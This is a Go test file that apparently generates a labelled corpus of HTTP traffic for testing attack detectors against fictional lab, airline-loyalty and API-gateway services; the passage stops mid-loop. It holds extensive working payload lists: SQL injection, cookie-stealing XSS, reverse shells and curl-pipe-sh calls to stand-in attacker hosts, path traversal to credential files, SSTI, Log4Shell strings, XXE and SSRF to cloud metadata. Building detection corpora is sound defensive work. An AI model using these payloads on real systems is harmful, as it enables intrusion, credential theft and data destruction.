// holdout11 is an independent labelled corpus for the eight stateless technique
// detectors, written from docs/detect.md and docs/traffic-format.md only (no
// detector source, no other corpus). It carries three APIs:
//
//   - labs.helixdx.test: a laboratory-results API in FHIR-style JSON and XML
//     (Patient, Observation, DiagnosticReport, DocumentReference, Binary).
//   - api.skyloyal.test: an airline loyalty API (members, miles, partner
//     redemptions, vouchers, support tickets).
//   - api.relaygate.test: an API gateway and webhook relay product API (routes,
//     upstream targets, API keys, delivery logs, replay of failed deliveries).
//
// Regenerate with:
//
//	go test ./detect/ -run TestHoldout11Generate -update-holdout11
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// h11PreEncoded matches payloads an attacker already percent-encoded.
var h11PreEncoded = regexp.MustCompile(`(?i)%(2[0-9a-f]|3[0-9a-f]|c0|0a|5c|00)`)

var updateHoldout11 = flag.Bool("update-holdout11", false, "rewrite detect/testdata/holdout11 from its generator")

const (
	h11Lab = "labs.helixdx.test"
	h11Air = "api.skyloyal.test"
	h11Gw  = "api.relaygate.test"

	h11SQLi = "detect.injection.sqli"
	h11XSS  = "detect.injection.xss"
	h11Oth  = "detect.injection.other"
	h11SSRF = "detect.ssrf"
	h11JWT  = "detect.auth.jwt"
	h11Verb = "detect.misconfig.verbose"
	h11Sens = "detect.exposure.sensitive"
	h11Lim  = "detect.resource.limits"
)

var h11Base = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)

// h11X is one exchange before it is given an actor, id and time.
type h11X struct {
	host, method, path string
	hdr                map[string][]string
	ctype, body        string
	status             int
	rhdr               map[string][]string
	rctype, rbody      string
	labels             []string
	tok                string // bearer token; "" = the actor's own; "-" = none
	benign             bool
	user               string // the benign user who sends it, when fixed
}

type h11User struct {
	sub, role, ua string
	ips           []string
	tok           string
	host          string
}

type h11Req struct {
	Method   string              `json:"method"`
	URL      string              `json:"url"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body"`
	BodySize int                 `json:"body_size"`
}

type h11Resp struct {
	Status   int                 `json:"status"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body"`
	BodySize int                 `json:"body_size"`
}

type h11Line struct {
	ID       string            `json:"id"`
	Time     string            `json:"time"`
	Client   map[string]string `json:"client"`
	Request  h11Req            `json:"request"`
	Response h11Resp           `json:"response"`
	Duration float64           `json:"duration_ms"`
}

type h11Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

var h11Key = []byte("holdout11-fixed-hs256-signing-key-not-a-secret")

func h11b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func h11JWTRaw(header, claims string, sign bool) string {
	s := h11b64([]byte(header)) + "." + h11b64([]byte(claims))
	if !sign {
		return s
	}
	m := hmac.New(sha256.New, h11Key)
	m.Write([]byte(s))
	return s + "." + h11b64(m.Sum(nil))
}

func h11Claims(sub, role string, iat, nbf, exp time.Time, iss string) string {
	return fmt.Sprintf(`{"iss":"%s","sub":"%s","role":"%s","iat":%d,"nbf":%d,"exp":%d}`, iss, sub, role, iat.Unix(), nbf.Unix(), exp.Unix())
}

func h11Valid(sub, role, iss string) string {
	iat := h11Base.Add(-2 * time.Hour)
	return h11JWTRaw(`{"alg":"HS256","typ":"JWT","kid":"2026-11-key_1"}`, h11Claims(sub, role, iat, iat, h11Base.Add(30*24*time.Hour), iss), true)
}

func h11Luhn(prefix string, n int, r *rand.Rand) string {
	d := []byte(prefix)
	for len(d) < n-1 {
		d = append(d, byte('0'+r.IntN(10)))
	}
	sum := 0
	for i := 0; i < len(d); i++ {
		v := int(d[len(d)-1-i] - '0')
		if i%2 == 0 {
			v *= 2
			if v > 9 {
				v -= 9
			}
		}
		sum += v
	}
	return string(d) + string(byte('0'+(10-sum%10)%10))
}

func h11Hex(r *rand.Rand, n int) string {
	const a = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[r.IntN(16)]
	}
	return string(b)
}

func h11Alnum(r *rand.Rand, n int) string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[r.IntN(len(a))]
	}
	return string(b)
}

func h11Up(r *rand.Rand, n int) string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[r.IntN(len(a))]
	}
	return string(b)
}

func h11JS(v any) string {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(buf.String(), "\n")
}

func h11XMLAttr(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "'", "&apos;")
	return r.Replace(s)
}

func h11Multipart(field, value, fname, fctype, fbody string) (string, string) {
	const b = "----h11Boundary7MA4YWxkTrZu0gW"
	var s strings.Builder
	s.WriteString("--" + b + "\r\nContent-Disposition: form-data; name=\"" + field + "\"\r\n\r\n" + value + "\r\n")
	if fname != "" {
		s.WriteString("--" + b + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fname + "\"\r\nContent-Type: " + fctype + "\r\n\r\n" + fbody + "\r\n")
	}
	s.WriteString("--" + b + "--\r\n")
	return "multipart/form-data; boundary=" + b, s.String()
}

// h11Place puts an injection payload in one of many request locations.
func h11Place(i int, p string, labels []string) h11X {
	x := h11X{method: "GET", status: 400, rbody: `{"error":"invalid_request","message":"The request could not be processed."}`, labels: labels}
	esc := url.QueryEscape
	pre := h11PreEncoded.MatchString(p)
	if pre {
		// already percent-encoded by the attacker: put it on the wire as is
		esc = func(s string) string { return s }
	}
	if pre && i%12 == 2 {
		i = 0
	}
	switch i % 12 {
	case 0:
		x.host, x.path = h11Lab, "/fhir/r4/Observation?patient=Patient/p-20931&code="+esc(p)
		x.status, x.rbody = 200, `{"resourceType":"Bundle","type":"searchset","total":0,"entry":[]}`
	case 1:
		x.host, x.path = h11Air, "/v2/partners/search?q="+esc(p)+"&country=DE"
		x.status, x.rbody = 200, `{"partners":[],"total":0}`
	case 2:
		x.host, x.path = h11Air, "/v2/members/"+url.PathEscape(p)+"/miles"
		x.status, x.rbody = 404, `{"error":"not_found"}`
	case 3:
		x.host, x.method, x.path, x.ctype = h11Gw, "POST", "/v1/routes", "application/json"
		x.body = h11JS(map[string]any{"route": map[string]any{"name": "orders-v2", "match": map[string]any{"path_prefix": p, "methods": []string{"GET"}}}})
		x.status, x.rbody = 422, `{"error":"validation_failed","field":"route.match.path_prefix"}`
	case 4:
		x.host, x.method, x.path, x.ctype = h11Air, "POST", "/v2/support/tickets", "application/x-www-form-urlencoded"
		x.body = "subject=" + url.QueryEscape("Missing miles") + "&message=" + esc(p) + "&channel=web"
		x.status, x.rbody = 201, `{"ticket":"TCK-884120","state":"open"}`
	case 5:
		x.host, x.path = h11Gw, "/v1/deliveries?status=failed"
		x.hdr = map[string][]string{"Referer": {"https://console.relaygate.test/deliveries?filter=" + p}}
		x.status, x.rbody = 200, `{"data":[],"has_more":false}`
	case 6:
		x.host, x.path = h11Air, "/v2/vouchers?state=active"
		x.hdr = map[string][]string{"Cookie": {"lang=en-GB; seat_pref=" + esc(p)}}
		x.status, x.rbody = 200, `{"vouchers":[]}`
	case 7:
		x.host, x.method, x.path = h11Lab, "POST", "/fhir/r4/DocumentReference"
		x.ctype, x.body = h11Multipart("description", p, "lipid_panel.pdf", "application/pdf", "%PDF-1.7 stub")
		x.status, x.rbody = 201, `{"resourceType":"DocumentReference","id":"dr-55120","status":"current"}`
	case 8:
		x.host, x.method, x.path, x.ctype = h11Lab, "POST", "/fhir/r4/Observation", "application/fhir+xml"
		x.body = `<?xml version="1.0" encoding="UTF-8"?><Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="HbA1c"/></code><note><text value="` + h11XMLAttr(p) + `"/></note></Observation>`
		x.status, x.rbody = 400, `{"resourceType":"OperationOutcome","issue":[{"severity":"error","code":"invalid"}]}`
	case 9:
		x.host, x.path = h11Air, "/v2/redemptions?memo="+esc(esc(p))
		x.status, x.rbody = 200, `{"redemptions":[]}`
	case 10:
		x.host, x.method, x.path, x.ctype = h11Lab, "POST", "/fhir/r4/Observation", "application/fhir+json"
		x.body = h11JS(map[string]any{"resourceType": "Observation", "status": "preliminary", "subject": map[string]any{"reference": "Patient/p-77120"}, "note": []any{map[string]any{"authorString": "Lab tech", "text": p}}})
		x.status, x.rbody = 201, `{"resourceType":"Observation","id":"obs-99102","status":"preliminary"}`
	case 11:
		x.host, x.method, x.path, x.ctype = h11Gw, "PATCH", "/v1/webhooks/wh_3KpL9/settings", "application/json"
		x.body = h11JS(map[string]any{"settings": map[string]any{"headers": []any{map[string]any{"name": "X-Source", "value": p}}}})
		x.status, x.rbody = 200, `{"id":"wh_3KpL9","updated":true}`
	}
	return x
}

func h11L(l ...string) []string { return l }

func h11Attacks(r *rand.Rand) []h11X {
	var out []h11X
	add := func(x h11X) { out = append(out, x) }

	// --- SQL injection ---
	sqli := []string{
		`' OR '1'='1`, `1' OR 1=1-- -`, `admin'#`, `x' UNION SELECT username,password_hash FROM staff--`,
		`1 AND SLEEP(5)`, `1;WAITFOR DELAY '0:0:5'--`, `'; DROP TABLE members;--`,
		`1' AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)='1`, `-1 UNION ALL SELECT NULL,NULL,version()--`,
		`1/**/UnIoN/**/SeLeCt/**/1,2,3--`, `' AND extractvalue(1,concat(0x7e,(select user())))--`,
		`1' AND 1=CONVERT(int,(SELECT @@version))--`, `'||(SELECT pg_sleep(7))||'`, `desc; SELECT pg_sleep(7)--`,
		`';shutdown--`, `") OR ("a"="a`, `admin'/*`, `1 ORDER BY 12--`, `1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--`,
		`1 RLIKE (SELECT (CASE WHEN (7=7) THEN 1 ELSE 0x28 END))`, `x' AND updatexml(1,concat(0x7e,version()),1)--`,
		`1' AND BENCHMARK(5000000,MD5(1))#`, `' OR 'x'='x`, `1 OR 1=1`, `') OR ('a'='a`, `1;SELECT * FROM pg_user--`,
		`smith' OR 1=1--`, `O'Hara' AND 1=1 UNION SELECT tier,miles FROM balances--`, `1%27%20OR%20%271%27%3D%271`,
		`'+UNION+SELECT+table_name,NULL+FROM+information_schema.tables--`, `x@y.test' -- `, `1 AnD 1=(SeLeCt 1 FrOm dual)`,
		`';EXEC xp_cmdshell('dir')--`, `1' WAITFOR DELAY '00:00:07'--`, `' UNION/*!50000SELECT*/1,group_concat(email),3 FROM members-- -`,
		`1) AND (SELECT 4412 FROM (SELECT(SLEEP(5)))abc)-- x`, `' OR username LIKE '%admin%'--`, `-7' UNION SELECT 1,load_file('/etc/hosts'),3#`,
		`1'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'`, `' AND 1=(SELECT COUNT(*) FROM sysobjects)--`,
		`1 UNION SELECT sqlite_version(),2--`, `'%20or%20''='`, `x'); DELETE FROM vouchers;--`,
		`1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#`, `admin' --`, `' oR 2>1 #`,
		`1;(SELECT CASE WHEN (SUBSTR(current_user,1,1)='p') THEN pg_sleep(3) ELSE pg_sleep(0) END)--`,
		`1 and 1=2 union select null,concat(0x3a,user(),0x3a)--`, `IF(1=1,SLEEP(4),0)`, `1' AND '1'='1' /*`,
		`'; INSERT INTO staff(email,role) VALUES('x@evil.test','admin')--`, `" OR 1=1 -- `, `1' or '1'='1' limit 1;#`,
		`' UNION SELECT card_number,expiry,NULL FROM payment_cards--`, `1%20AND%20SLEEP%285%29`, `%2527%2520OR%25201%253D1--`,
		`999999.9 union all select 0x31,0x32--`, `') UNION SELECT password FROM users WHERE ('1'='1`, `1'; SELECT pg_sleep(5);--`,
		`name' || (SELECT 'a' FROM dual WHERE 1=1) || '`, `' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--`,
	}
	sqlErrs := []string{
		`{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1'' at line 1"}`,
		`{"error":"pq: syntax error at or near \"UNION\"","code":"42601"}`,
		`{"message":"Unclosed quotation mark after the character string ''.\r\nIncorrect syntax near ''.","type":"System.Data.SqlClient.SqlException"}`,
		`{"error":"ORA-00933: SQL command not properly ended"}`,
		`{"error":"SQLITE_ERROR: near \"SELECT\": syntax error"}`,
		`{"error":{"code":"ER_PARSE_ERROR","errno":1064,"sqlState":"42000","sqlMessage":"You have an error in your SQL syntax"}}`,
		`{"detail":"ERROR:  invalid input syntax for type integer: \"1 AND SLEEP(5)\"\nLINE 1: SELECT * FROM members WHERE id = '1 AND SLEEP(5)'\n                                            ^"}`,
		`{"error":"DB2 SQL Error: SQLCODE=-104, SQLSTATE=42601, SQLERRMC=UNION;"}`,
	}
	for i, p := range sqli {
		x := h11Place(i, p, h11L(h11SQLi))
		if i%6 == 2 {
			x.status, x.rbody = 500, sqlErrs[(i/6)%len(sqlErrs)]
			x.labels = h11L(h11SQLi, h11Verb)
		}
		add(x)
	}

	// --- XSS ---
	xss := []string{
		`<script>alert(document.domain)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
		`"><script>fetch('//x.evil.test/'+document.cookie)</script>`, `<ScRiPt>confirm(1)</sCrIpT>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<iframe src="javascript:alert(1)"></iframe>`, `<body onload=alert('xss')>`,
		`<details open ontoggle=alert(1)>`, `<a href="jav&#x09;ascript:alert(1)">miles</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
		`<input autofocus onfocus=alert(1)>`, `<video><source onerror="alert(1)"></video>`, `<object data="javascript:alert(1)"></object>`,
		`<marquee onstart=alert(1)>promo</marquee>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`'"><img src=1 onerror=prompt(8)>`, `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`, `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<x onpointerover=alert(1)>hover</x>`,
		`<img """><script>alert("x")</script>">`, `<div style="x" onmouseover="alert(1)">`, `<embed src="javascript:alert(1)">`,
		`</textarea><script>alert(1)</script>`, `<svg><script>alert&#40;1&#41;</script></svg>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
		`<form action="javascript:alert(1)"><input type=submit>`, `<isindex type=image src=1 onerror=alert(1)>`,
		`<audio src=x onerror=alert(1)>`, `<body/onpageshow=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>`, `<img src=x oNeRrOr=alert(1)>`,
		`"><svg onload=alert(String.fromCharCode(88,83,83))>`, `<script src=//x.evil.test/h.js></script>`,
		`<button formaction=javascript:alert(1)>go`, `<select autofocus onfocus=alert(1)>`, `<table background="javascript:alert(1)">`,
		`<keygen autofocus onfocus=alert(1)>`, `%253Cscript%253Ealert(1)%253C%252Fscript%253E`, `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
		`<img src="x" onerror="window.location='https://x.evil.test/?c='+document.cookie">`, `<link rel=import href="data:text/html,<script>alert(1)</script>">`, `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`,
		`<img/src/onerror=alert(1)>`, `<svg onload=alert&lpar;1&rpar;>`, `<a href="vbscript:msgbox(1)">x</a>`, `<script>/*</script>*/alert(1)</script>`,
		`<body background="javascript:alert(1)">`, `<img src=x onerror=\u0061lert(1)>`, `<xss onafterscriptexecute=alert(1)><script>1</script>`,
	}
	for i, p := range xss {
		add(h11Place(i+5, p, h11L(h11XSS)))
	}
	xssJS := []string{`javascript:alert(document.cookie)`, `JaVaScRiPt:alert(1)`, `java&#x09;script:alert(1)`, `javascript&colon;alert(1)`, `data:text/html,<script>alert(1)</script>`, `  javascript:void(fetch('//x.evil.test'))`}
	for i, p := range xssJS {
		switch i % 3 {
		case 0:
			add(h11X{host: h11Air, method: "PATCH", path: "/v2/members/me/profile", ctype: "application/json", body: h11JS(map[string]any{"profile": map[string]any{"website": p, "display_name": "Kim"}}), status: 200, rbody: `{"updated":true}`, labels: h11L(h11XSS)})
		case 1:
			add(h11X{host: h11Gw, method: "POST", path: "/v1/portal/links", ctype: "application/json", body: h11JS(map[string]any{"label": "Docs", "href": p}), status: 201, rbody: `{"id":"lnk_77"}`, labels: h11L(h11XSS)})
		case 2:
			add(h11X{host: h11Lab, method: "GET", path: "/fhir/r4/Patient?_format=json&redirect_uri=" + url.QueryEscape(p), status: 200, rbody: `{"resourceType":"Bundle","total":0}`, labels: h11L(h11XSS)})
		}
	}
	svgs := []string{
		`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script><circle r="4"/></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text y="15">logo</text></a></svg>`,
		`<html><body><h1>Report</h1><img src=x onerror="alert(1)"></body></html>`,
	}
	for i, s := range svgs {
		fn, ct := "partner-logo.svg", "image/svg+xml"
		if i == 3 {
			fn, ct = "report.html", "text/html"
		}
		c, b := h11Multipart("title", "logo upload", fn, ct, s)
		add(h11X{host: []string{h11Air, h11Lab}[i%2], method: "POST", path: []string{"/v2/partners/ptn_4412/logo", "/fhir/r4/Binary"}[i%2], ctype: c, body: b, status: 201, rbody: `{"id":"bin-7731","contentType":"` + ct + `"}`, labels: h11L(h11XSS)})
	}

	// --- other injection ---
	oth := []string{
		`; cat /etc/passwd`, `| id`, `$(whoami)`, "`uname -a`", `&& curl http://x.evil.test/s.sh | sh`, `;${IFS}cat${IFS}/etc/passwd`,
		`x;$'\x69\x64'`, `;{cat,/etc/passwd}`, `;/???/c?t /???/p??s??`, `;w'h'o'am'i`, `|c\at /etc/shadow`, `|| ping -c 10 127.0.0.1`,
		"%0aid", `; nc -e /bin/sh 198.51.100.66 4444`, `a;$IFS/bin/sh$IFS-c$IFS'id'`, `& ping -n 5 127.0.0.1 &`, `$(sleep 10)`, `;bash -i >& /dev/tcp/198.51.100.66/9001 0>&1`,
		`../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`, `%252e%252e%252f%252e%252e%252fetc%252fshadow`, `....//....//....//etc/hosts`,
		`..\..\..\..\windows\win.ini`, `../../../../etc/passwd%00.pdf`, `%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`, `/var/lab/uploads/../../../proc/self/environ`,
		`..%5c..%5c..%5cboot.ini`, `../../../../../../root/.ssh/id_rsa`,
		`{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`, `{{''.__class__.__mro__[1].__subclasses__()}}`,
		`{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`, `{{['id']|filter('system')}}`,
		`${"freemarker.template.utility.Execute"?new()("id")}`, `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("whoami")}`,
		`#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))`, `<%= system("id") %>`, `{system('cat /etc/passwd')}`,
		`[[${T(java.lang.Runtime).getRuntime().exec('id')}]]`, `__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x`,
		`@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))`, `{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}`,
		`{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}`, `<%= File.read('/etc/passwd') %>`,
		`${jndi:ldap://198.51.100.66:1389/Exploit}`, `${${lower:j}ndi:${lower:l}dap://x.evil.test/a}`, `${${::-j}${::-n}${::-d}${::-i}:rmi://x.evil.test/o}`,
		`${jndi:dns://x.evil.test/probe}`, `${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.evil.test/z}`, `%24%7Bjndi%3Aldap%3A%2F%2Fx.evil.test%2Fb%7D`,
		`${${upper:j}ndi:ldaps://x.evil.test/c}`,
	}
	for i, p := range oth {
		add(h11Place(i+3, p, h11L(h11Oth)))
	}
	l4jHdr := []string{"User-Agent", "X-Api-Version", "Referer", "X-Client-Trace"}
	for i, p := range []string{`${jndi:ldap://x.evil.test/ua}`, `${jndi:${lower:l}${lower:d}a${lower:p}://x.evil.test/v}`, `https://portal.skyloyal.test/${jndi:rmi://x.evil.test/r}`, `${${::-j}ndi:iiop://x.evil.test/q}`} {
		add(h11X{host: []string{h11Air, h11Gw, h11Lab}[i%3], method: "GET", path: []string{"/v2/members/me", "/v1/routes", "/fhir/r4/metadata"}[i%3], hdr: map[string][]string{l4jHdr[i]: {p}}, status: 200, rbody: `{"ok":true}`, labels: h11L(h11Oth)})
	}
	nosql := []struct{ path, ctype, body string }{
		{"/v2/auth/login", "application/json", `{"email":{"$gt":""},"password":{"$gt":""}}`},
		{"/v2/auth/login", "application/x-www-form-urlencoded", `email=ana%40example.test&password[$ne]=x`},
		{"/v2/members/search?$where=sleep(5000)", "", ""},
		{"/v2/members/search", "application/json", `{"filter":{"$where":"this.miles > 0 || sleep(5000)"}}`},
		{"/v2/auth/login", "application/json", `{"username":{"$regex":".*"},"password":{"$ne":null}}`},
		{"/v2/members/search", "application/json", `{"filter":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}`},
		{"/v2/members/search?email[$ne]=nobody%40example.test", "", ""},
		{"/v2/auth/reset", "application/json", `{"email":{"$regex":"^a"},"new_password":"Hunter2!x"}`},
	}
	for _, n := range nosql {
		m := "POST"
		if n.body == "" {
			m = "GET"
		}
		add(h11X{host: h11Air, method: m, path: n.path, ctype: n.ctype, body: n.body, status: 200, rbody: `{"ok":true}`, labels: h11L(h11Oth), tok: "-"})
	}
	xxe := []string{
		`<?xml version="1.0"?><!DOCTYPE Observation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Observation xmlns="http://hl7.org/fhir"><note><text value="&xxe;"/></note></Observation>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://x.evil.test/evil.dtd"> %dtd;]><Observation xmlns="http://hl7.org/fhir"/>`,
		`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><Observation><note>&lol4;</note></Observation>`,
		`<Observation xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include parse="text" href="/etc/passwd"/></note></Observation>`,
		`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>`,
		`<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://x.evil.test/ext.dtd"><data>1</data>`,
	}
	for i, b := range xxe {
		add(h11X{host: h11Lab, method: "POST", path: []string{"/fhir/r4/Observation", "/fhir/r4/$validate", "/fhir/r4/Bundle"}[i%3], ctype: "application/fhir+xml", body: b, status: 200, rbody: `{"resourceType":"OperationOutcome","issue":[{"severity":"information","code":"informational"}]}`, labels: h11L(h11Oth)})
	}
	{
		c, b := h11Multipart("title", "result scan", "scan.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`)
		add(h11X{host: h11Lab, method: "POST", path: "/fhir/r4/Binary", ctype: c, body: b, status: 201, rbody: `{"resourceType":"Binary","id":"bin-8812"}`, labels: h11L(h11Oth)})
	}

	// --- SSRF ---
	ssrf := []string{
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
		"http://127.0.0.1:8080/admin", "http://2130706433/", "http://0177.0.0.1:9000/", "http://0x7f000001/health", "http://127.1/", "http://[::ffff:127.0.0.1]:6379/",
		"http://10.0.0.5:9200/_cat/indices", "https://192.168.1.1/cgi-bin/status", "http://172.16.3.4:8500/v1/kv/?recurse", "http://100.64.0.10/", "http://169.254.170.2/v2/credentials",
		"http://app.10.0.0.1.nip.io/", "http://7f000001.nip.io:8080/", "http://relay.lvh.me/", "http://localtest.me:3000/", "http://user@127.0.0.1/", "https://hooks.partner.example@169.254.169.254/latest/user-data",
		"file:///srv/relay/config.yml", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "ldap://10.1.1.1:389/dc=corp", "http://①②⑦.⓪.⓪.①/", "http://localhost:2375/containers/json",
		"http://[::1]:8001/api/v1/namespaces/kube-system/secrets", "http://0.0.0.0:5601/", "http://192.168.49.2:10250/pods", "http://169.254.169.254.nip.io/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/",
		"http://2852039166/latest/meta-data/", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "http://192.168.0.10.nip.io/admin", "http://10.20.30.40:15000/config_dump", "http://127.0.0.1:2379/v2/keys/?recursive=true",
		"http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://localhost/server-status", "http://017700000001/", "http://100.100.100.200/latest/meta-data/",
		"http://0251.0376.0251.0376/latest/", "gopher://10.0.0.9:25/_HELO%20relay", "http://127.0.0.1.nip.io/", "http://customer.localtest.me/", "http://0x0a.0x00.0x00.0x01/", "http://10.1/", "http://①⑨②.①⑥⑧.⓪.①/", "http://127.0.0.1:15672/api/users", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://172.31.255.1/", "https://[fd12:3456:789a::1]/internal", "http://192.168.100.20:8080/manager/html",
	}
	ssrfPlace := func(i int, u string) h11X {
		switch i % 8 {
		case 0:
			return h11X{host: h11Gw, method: "POST", path: "/v1/upstreams", ctype: "application/json", body: h11JS(map[string]any{"upstream": map[string]any{"name": "orders", "url": u, "timeout_ms": 3000}}), status: 201, rbody: `{"id":"up_81Ka","health":"pending"}`}
		case 1:
			return h11X{host: h11Gw, method: "POST", path: "/v1/webhooks", ctype: "application/json", body: h11JS(map[string]any{"destination_url": u, "events": []string{"delivery.failed"}}), status: 201, rbody: `{"id":"wh_9a1","state":"active"}`}
		case 2:
			return h11X{host: h11Gw, method: "POST", path: "/v1/webhooks/wh_3KpL9/test?callback_url=" + url.QueryEscape(u), status: 202, rbody: `{"queued":true}`}
		case 3:
			return h11X{host: h11Lab, method: "POST", path: "/fhir/r4/DocumentReference", ctype: "application/fhir+json", body: h11JS(map[string]any{"resourceType": "DocumentReference", "content": []any{map[string]any{"attachment": map[string]any{"contentType": "application/pdf", "url": u}}}}), status: 201, rbody: `{"resourceType":"DocumentReference","id":"dr-1200"}`}
		case 4:
			return h11X{host: h11Air, method: "PUT", path: "/v2/partners/ptn_4412", ctype: "application/json", body: h11JS(map[string]any{"partner": map[string]any{"name": "Alpine Hotels", "logo_url": u}}), status: 200, rbody: `{"updated":true}`}
		case 5:
			return h11X{host: h11Lab, method: "GET", path: "/fhir/r4/Binary/$fetch?source=" + url.QueryEscape(u), status: 200, rbody: `{"resourceType":"Binary","contentType":"text/plain","data":""}`}
		case 6:
			return h11X{host: h11Gw, method: "PATCH", path: "/v1/routes/rt_orders", ctype: "application/json", body: h11JS(map[string]any{"route": map[string]any{"upstream": map[string]any{"targets": []any{map[string]any{"target": u, "weight": 100}}}}}), status: 200, rbody: `{"id":"rt_orders","version":7}`}
		default:
			return h11X{host: h11Gw, method: "POST", path: "/v1/deliveries/import", ctype: "application/x-www-form-urlencoded", body: "format=ndjson&feed_url=" + url.QueryEscape(u), status: 202, rbody: `{"job":"imp_5512"}`}
		}
	}
	for i, u := range ssrf {
		x := ssrfPlace(i, u)
		x.labels = h11L(h11SSRF)
		if i == 0 || i == 13 || i == 30 {
			x.status = 200
			x.rbody = h11JS(map[string]any{"preview": map[string]any{"status": 200, "body": map[string]any{"Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": "ASIA" + h11Up(r, 16), "SecretAccessKey": h11Alnum(r, 40), "Token": h11Alnum(r, 120), "Expiration": "2026-11-20T15:12:09Z"}}})
			x.labels = h11L(h11SSRF, h11Sens)
		}
		add(x)
	}
	hostOnly := []struct{ k, v string }{{"host", "169.254.169.254"}, {"target_host", "10.0.4.12"}, {"upstream_host", "127.0.0.1"}, {"hostname", "metadata.google.internal"}, {"host", "192.168.10.5"}}
	for i, h := range hostOnly {
		add(h11X{host: h11Gw, method: "POST", path: "/v1/upstreams/up_" + fmt.Sprint(300+i) + "/targets", ctype: "application/json", body: h11JS(map[string]any{h.k: h.v, "port": 80}), status: 201, rbody: `{"ok":true}`, labels: h11L(h11SSRF)})
	}
	for i, u := range []string{"http://10.0.0.12:8080/internal/hooks", "http://169.254.169.254/latest/api/token", "http://[::1]:9901/clusters", "http://172.17.0.1:2375/info"} {
